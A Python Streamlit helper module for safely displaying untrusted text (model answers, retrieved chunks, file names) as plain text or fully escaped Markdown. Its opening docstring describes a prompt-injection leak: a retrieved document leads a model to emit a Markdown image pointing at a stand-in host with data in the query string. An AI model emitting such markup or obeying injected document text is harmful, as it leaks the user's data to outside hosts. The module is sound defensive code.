"""Untrusted text in the UI: model output, document and chunk text, questions, file names, error messages that
quote them. None of it may be rendered as Markdown or HTML: a retrieved document (or a model led by one) can emit
`![](https://host/?q=<data>)`, and the browser would fetch that URL the moment it rendered -- a data leak from a
local tool. A backtick in a file name would break out of a code span.

Two ways to show such text, both here:

- As plain text, no Markdown at all: `text()`, `stream()` (st.text elements). The default for bodies (answers,
  chunks, questions).
- Inside a Markdown string (labels, captions, st.error, expander titles, a bold name in a sentence):
  `escape_markdown()`, THE escaping helper (core.safe_text, shared with the Markdown report). It
  backslash-escapes every ASCII punctuation character (CommonMark allows that for all of them), so no image,
  link, autolink, HTML tag, entity, code span, emphasis, heading, list, table, math or Streamlit directive
  (`:red[...]`, `:material/...:`) can form. It maps each character on its own, so escape(a + b) == escape(a) +
  escape(b): streamed chunks can be escaped one by one and a `![`...`](` split across chunks still never renders.

Streamlit widgets whose labels accept Markdown (st.expander, st.button, st.radio options, st.tabs, st.metric,
st.caption, st.error/warning/info/success, st.toast, st.status, st.progress text) need `escape_markdown` on any
untrusted part. st.text, st.code, st.text_area/text_input values, st.dataframe/st.table cells and st.json are
not Markdown and need nothing.
"""
from __future__ import annotations

import time
from typing import Iterable

import streamlit as st

from core.safe_text import escape_markdown  # THE escaping helper (per character; line breaks kept)

RENDER_EVERY_S = 0.05            # a streamed element is re-rendered at most this often (and once at the end)

md = escape_markdown     # short alias for f-strings: st.markdown(f"**{md(name)}** has {n} chunks")


def text(body, container=None):
    """Show untrusted text as plain text (no Markdown, no HTML), wrapped."""
    c = container if container is not None else st
    return c.text("" if body is None else str(body))


def stream(chunks: Iterable, container=None, markdown: bool = False) -> str:
    """Show an untrusted token stream as it arrives and return the full text.

    Replaces `st.write_stream` (which renders Markdown). Non-string items (e.g. a final usage record) are
    skipped. `markdown=False` (default) updates one st.text element; `markdown=True` renders the escaped text
    in an st.markdown element (normal prose font, every character escaped as it arrives)."""
    c = container if container is not None else st
    slot = c.empty()
    raw: list[str] = []
    shown: list[str] = []            # the escaped chunks (markdown mode)
    last = 0.0
    dirty = False

    def render() -> None:
        if markdown:
            slot.markdown("".join(shown))
        else:
            slot.text("".join(raw))

    for chunk in chunks:
        if not isinstance(chunk, str) or not chunk:
            continue
        raw.append(chunk)
        if markdown:
            shown.append(escape_markdown(chunk))
        dirty = True
        now = time.monotonic()
        if now - last >= RENDER_EVERY_S:
            render()
            last, dirty = now, False
    if dirty or not raw:
        render()
    return "".join(raw)


def grid(rows: list[dict], container=None, widths: list[float] | None = None) -> None:
    """A small table (a handful of rows) as a grid of plain-text cells: one st.columns row per row, every cell an
    st.text (never Markdown), the column names as escaped captions. No pandas/pyarrow import, which st.dataframe
    costs a page's first render (~0.5-0.9 s on a cold start). For long tables, or to sort and scroll, use
    st.dataframe."""
    if not rows:
        return
    c = container if container is not None else st
    names = list(rows[0])
    box = c.container(border=True)
    for col, name in zip(box.columns(widths or len(names)), names):
        col.caption(escape_markdown(name))
    for row in rows:
        for col, name in zip(box.columns(widths or len(names)), names):
            col.text("" if row.get(name) is None else str(row.get(name)))
